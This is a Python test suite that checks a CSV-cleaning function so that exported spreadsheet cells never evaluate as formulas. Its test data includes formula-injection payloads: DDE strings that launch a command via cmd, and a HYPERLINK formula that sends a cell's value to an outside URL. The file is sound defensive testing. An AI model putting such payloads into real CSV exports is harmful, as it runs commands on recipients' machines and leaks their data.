"""What is handed out as CSV computes nothing when it is opened, and its values can be had back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eboxcast.lib.csv_cells import cell, harmless

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "  =1+1",
]
COMPUTED = re.compile(r'[\s"]*[=@+\t＝＋－＠-]')
NUMBER = re.compile(r"[+-][0-9][0-9 .,/()-]*")


def cells_of(text: str, separator: str) -> list[str]:
    """Return the cells of a CSV as a spreadsheet has them that takes a separator for granted."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_computed(value: str) -> bool:
    return bool(COMPUTED.match(value)) and not NUMBER.fullmatch(value.strip())


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text_that_keeps_its_value(formula: str) -> None:
    quoted = '"' + formula.replace('"', '""') + '"'
    for written in (cell(formula), harmless(f"a;{quoted};b".encode()).decode()):
        (found,) = [value for value in cells_of(written, ";") if value not in {"a", "b"}]
        assert not is_computed(found)
        assert found.replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("value", ["-5", "+32 2 123 45 67", "-1.234,56", "Maes-Dupont", "a=b", "x@y.be", "'", ""])
def test_numbers_and_texts_stay_as_they_are(value: str) -> None:
    assert harmless(f"{value};{value}".encode()) == f"{value};{value}".encode()


@pytest.mark.parametrize("row", ['x,"a;=1+1",y', 'a;"x\n=1+1";b', '""=1+1;x', "a\t=1+1", "=1;+x,@y"])
def test_another_separator_or_a_line_end_inside_a_cell_opens_no_door(row: str) -> None:
    made = harmless(row.encode()).decode()
    for separator in ";,\t":
        for line in made.split("\n"):
            assert not any(map(is_computed, line.split(separator)))
        assert not any(map(is_computed, cells_of(made, separator)))


@given(st.lists(st.text(alphabet="=+-@;,\t\"' 1a\n", max_size=12), min_size=1, max_size=5))
def test_whatever_the_cells_are_none_is_computed_and_each_can_be_had_back(values: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";").writerow(values)
    made = harmless(out.getvalue().encode()).decode()
    found = cells_of(made, ";")
    assert not any(map(is_computed, found))
    assert [value.replace("'", "") for value in found] == [value.replace("'", "") for value in values]
